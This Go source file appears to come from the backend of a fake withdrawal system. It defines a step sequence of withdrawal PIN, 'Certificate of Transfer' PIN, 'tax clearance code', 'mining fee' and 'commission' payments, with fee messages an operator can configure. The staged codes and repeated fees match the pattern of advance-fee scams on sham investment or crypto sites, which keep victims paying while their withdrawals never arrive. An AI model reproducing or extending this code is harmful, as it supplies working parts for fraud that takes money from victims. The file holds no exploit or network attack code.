package workflow

import "github.com/wixxidevelop/blue/internal/models"

// StepInfo is the presentation metadata for a step
type StepInfo struct {
	Title       string `json:"title"`
	Description string `json:"description"`
	Icon        string `json:"icon"`
}

const (
	miningFeeFallback  = "Processing fee required to complete transaction."
	commissionFallback = "Final processing fee to complete your withdrawal."
)

var stepTable = map[models.StepID]StepInfo{
	models.StepPinEntry: {
		Title:       "Withdrawal Authorization",
		Description: "Please enter your withdrawal PIN to begin the transaction process.",
		Icon:        "🔐",
	},
	models.StepCotEntry: {
		Title:       "Certificate of Transfer (COT)",
		Description: "Enter your Certificate of Transfer PIN to verify transaction eligibility.",
		Icon:        "📋",
	},
	models.StepTaxEntry: {
		Title:       "Tax Clearance Verification",
		Description: "Provide your tax clearance code to comply with regulatory requirements.",
		Icon:        "📊",
	},
	models.StepFeePayment: {
		Title:       "Mining Fee Payment",
		Description: miningFeeFallback,
		Icon:        "⛏️",
	},
	models.StepCommissionPayment: {
		Title:       "Commission Payment",
		Description: commissionFallback,
		Icon:        "💳",
	},
	models.StepCompleted: {
		Title:       "Transaction Complete",
		Description: "Your withdrawal has been processed successfully.",
		Icon:        "✅",
	},
}

var stepLabels = map[models.StepID]string{
	models.StepPinEntry:          "PIN",
	models.StepCotEntry:          "COT",
	models.StepTaxEntry:          "Tax",
	models.StepFeePayment:        "Mining",
	models.StepCommissionPayment: "Commission",
	models.StepCompleted:         "Done",
}

// Info returns the metadata for step. Fee steps take their description from
// the fee message when one is configured. Unknown steps fall back to the
// first step.
func Info(step models.StepID, settings *models.Settings) StepInfo {
	info, ok := stepTable[step]
	if !ok {
		return stepTable[models.StepPinEntry]
	}
	if settings == nil {
		return info
	}
	switch step {
	case models.StepFeePayment:
		if msg := settings.Fees.MiningFee.Message; msg != "" {
			info.Description = msg
		}
	case models.StepCommissionPayment:
		if msg := settings.Fees.Commission.Message; msg != "" {
			info.Description = msg
		}
	}
	return info
}

// ProgressState is the position of a step relative to the current one
type ProgressState string

const (
	ProgressActive    ProgressState = "active"
	ProgressCompleted ProgressState = "completed"
	ProgressPending   ProgressState = "pending"
)

// ProgressItem is one entry of the step indicator
type ProgressItem struct {
	Number int           `json:"number"`
	Step   models.StepID `json:"step"`
	Label  string        `json:"label"`
	State  ProgressState `json:"state"`
}

// Progress builds the step indicator for current
func Progress(current models.StepID) []ProgressItem {
	idx := current.Index()
	if idx < 0 {
		idx = 0
	}
	items := make([]ProgressItem, 0, len(models.Steps))
	for i, step := range models.Steps {
		state := ProgressPending
		switch {
		case i == idx:
			state = ProgressActive
		case i < idx:
			state = ProgressCompleted
		}
		items = append(items, ProgressItem{
			Number: i + 1,
			Step:   step,
			Label:  stepLabels[step],
			State:  state,
		})
	}
	return items
}
